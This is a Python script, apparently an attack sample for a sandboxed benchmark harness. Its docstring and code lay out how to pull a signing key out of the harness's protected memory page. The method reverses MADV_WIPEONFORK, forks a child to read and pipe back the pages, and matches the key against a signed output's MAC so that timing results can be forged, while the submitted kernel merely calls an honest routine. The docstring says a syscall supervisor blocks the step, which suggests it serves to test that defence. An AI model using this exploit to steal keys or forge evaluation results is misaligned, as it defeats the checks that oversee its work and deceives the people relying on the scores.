"""The key through a child's copy: the core marks its key page MADV_WIPEONFORK, so a forked child
gets zeros there. madvise(MADV_KEEPONFORK) on the inaccessible small pages (the key's among them)
undoes that; a forked child then mprotects its own copy readable (its memory, not the worker's)
and sends the pages back; the key is found against a signed output's MAC and half of every time
is signed. The syscall supervisor refuses the madvise on the core's page (rule 'core')."""

import os

import _honest
import _keyscan
import _native

MADV_KEEPONFORK = 19
pages = list(_keyscan.anonymous_mappings("---p", 4096))
for start, end in pages:
    if _native.LIBC.madvise(start, end - start, MADV_KEEPONFORK) != 0:
        print(f"madvise at {start:#x} refused:", _native.errno_text())
copies_r, copies_w = os.pipe()
child = os.fork()
if child == 0:
    for start, end in pages:
        data = _keyscan.read_opened(start, end) or bytes(end - start)
        os.write(copies_w, data)
    os._exit(0)
os.close(copies_w)
copies = b"".join(iter(lambda: os.read(copies_r, 1 << 16), b""))
os.waitpid(child, 0)
regions = [copies[at:at + 4096] for at in range(0, len(copies), 4096)]
_keyscan.install(lambda message, mac: _keyscan.search(regions, message, mac))


def custom_kernel(data):
    return _honest.gemv(data)
